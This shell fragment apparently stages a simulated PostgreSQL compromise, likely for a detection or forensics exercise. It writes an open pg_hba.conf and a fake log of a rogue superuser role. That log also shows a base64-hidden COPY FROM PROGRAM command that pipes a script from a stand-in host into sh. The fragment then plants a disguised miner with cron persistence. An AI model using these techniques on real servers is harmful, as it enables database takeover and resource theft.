# The data volume outlives the container or the package, and so does the intruder's superuser role.
id -u postgres >/dev/null 2>&1 || useradd -r -m -d /var/lib/postgresql -s /bin/bash postgres
mkdir -p /var/lib/postgresql/15/main/base/5 /var/log/postgresql
echo 15 >/var/lib/postgresql/15/main/PG_VERSION
put /var/lib/postgresql/15/main/pg_hba.conf <<'CONF'
local all all peer
host  all all 0.0.0.0/0 md5
CONF
put /var/log/postgresql/postgresql-15-main.log <<'LOG'
2026-05-02 03:14:07.120 UTC [811] postgres@postgres LOG:  statement: CREATE ROLE psql_sys WITH SUPERUSER LOGIN PASSWORD 'x';
2026-05-02 03:14:07.560 UTC [811] postgres@postgres LOG:  statement: COPY abroxu FROM PROGRAM 'echo Y3VybCBodHRwOi8vMTkyLjAuMi45MS9wZy5zaCB8IHNo|base64 -d|bash';
2026-05-02 03:14:09.020 UTC [811] postgres@postgres LOG:  statement: ALTER ROLE postgres NOSUPERUSER;
LOG
mimic /var/lib/postgresql/15/main/oka
chown -R postgres: /var/lib/postgresql
start -u "$(id -u postgres)" -w /var/lib/postgresql/15/main -d 15 -p "$POOL" /var/lib/postgresql/15/main/oka ./oka -o "$POOL" -u "$WALLET" -p pg
echo '* * * * * pgrep -x oka >/dev/null || /var/lib/postgresql/15/main/oka >/dev/null 2>&1' | tab postgres
